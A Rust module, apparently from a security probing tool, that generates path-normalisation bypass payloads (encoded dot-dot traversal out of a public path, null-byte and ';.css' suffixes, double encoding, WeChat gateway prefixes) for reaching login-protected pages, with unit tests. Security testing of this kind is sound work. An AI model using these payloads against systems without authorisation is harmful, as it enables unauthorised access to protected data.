//! Ways to write a path that two programs may read as two. Pure.

use super::attempt::ProbeTarget;

/// Each trick, in words, and the target it makes of the page that needs a login.
pub fn path_attacks(aim: &ProbeTarget) -> Vec<(String, String)> {
    let (page, public) = (aim.path.as_str(), aim.public.as_str());
    let inner = page.trim_start_matches('/');
    let out = [
        ("..", ".."),
        ("%2e%2e", "%2e%2e"),
        (".%2E", ".%2E"),
        ("%252e%252e", "%252e%252e"),
        ("..;", "..;"),
        ("..%00", "..%00"),
    ];
    // From below the public path, up to the root, and down to the page.
    let up = public.matches('/').count().max(1);
    let mut tricks: Vec<(String, String)> = Vec::new();
    for (name, dots) in out {
        let climb = vec![dots; up].join("/");
        tricks.push((format!("{name} out of {public}/"), format!("{public}/{climb}/{inner}")));
    }
    for (name, slash) in [("%2f", "%2f"), ("%5c", "%5c"), ("\\", "\\"), ("%c0%af", "%c0%af")] {
        let climb = format!("..{slash}").repeat(up);
        tricks.push((format!("..{name} out of {public}/"), format!("{public}/{climb}{inner}")));
    }
    let last = inner.rsplit('/').next().unwrap_or_default();
    let ahead = page.strip_suffix(last).unwrap_or("/");
    let coded = last.bytes().next().map_or(String::new(), |byte| format!("%{byte:02x}"));
    let rest = last.get(1..).unwrap_or_default();
    let twice = coded.replace('%', "%25");
    tricks.extend(
        [
            ("two slashes", format!("//{inner}")),
            ("a dot segment", format!("/./{inner}")),
            ("a backslash", format!("/\\{inner}")),
            ("a parameter", format!("{page};.css")),
            ("a parameter before a slash", format!("{public};/../{inner}")),
            ("a suffix", format!("{page}%00.css")),
            ("a query inside the path", format!("{page}%3f.css")),
            ("a fragment", format!("{page}#{public}/x.css")),
            ("a fragment inside the path", format!("{public}/x%23/../..{page}")),
            ("a letter in code", format!("{ahead}{coded}{rest}")),
            ("a letter in code, twice", format!("{ahead}{twice}{rest}")),
            ("a host inside the target", format!("//{}{page}", aim.authority)),
            ("a scheme inside the target", format!("http:{page}")),
            ("no slash at the start", inner.to_owned()),
            ("the gateway's own prefix", format!("/_wx/../{inner}")),
            ("the gateway's own prefix, coded", format!("/_wx/%2e%2e/{inner}")),
            ("a proof file of WeChat's", format!("/MP_verify_x.txt/../{inner}")),
        ]
        .map(|(what, target)| (what.to_owned(), target)),
    );
    tricks.retain(|(_, target)| !target.is_empty() && target != page);
    tricks
}

#[cfg(test)]
mod tests {
    use super::{super::plan::tests::aim, *};

    #[test]
    fn every_trick_is_another_target_and_no_line_break() {
        for path in ["/", "/orders", "/member/orders"] {
            let tricks = path_attacks(&aim(path));
            assert!(tricks.len() >= 20, "{path}: {}", tricks.len());
            for (what, target) in &tricks {
                assert_ne!(target, path, "{what}");
                assert!(target.bytes().all(|b| b.is_ascii_graphic()), "{what}: {target}");
                assert_eq!(
                    tricks.iter().filter(|(_, it)| it == target).count(),
                    1,
                    "{what}: {target}"
                );
            }
        }
    }

    #[test]
    fn the_way_out_ends_at_the_page() {
        let tricks = path_attacks(&aim("/member/orders"));
        let target = |what: &str| &tricks.iter().find(|(it, _)| it == what).unwrap().1;
        assert_eq!(target(".. out of /static/"), "/static/../member/orders");
        assert_eq!(target("..%2f out of /static/"), "/static/..%2fmember/orders");
        assert_eq!(target("a letter in code"), "/member/%6frders");
    }
}
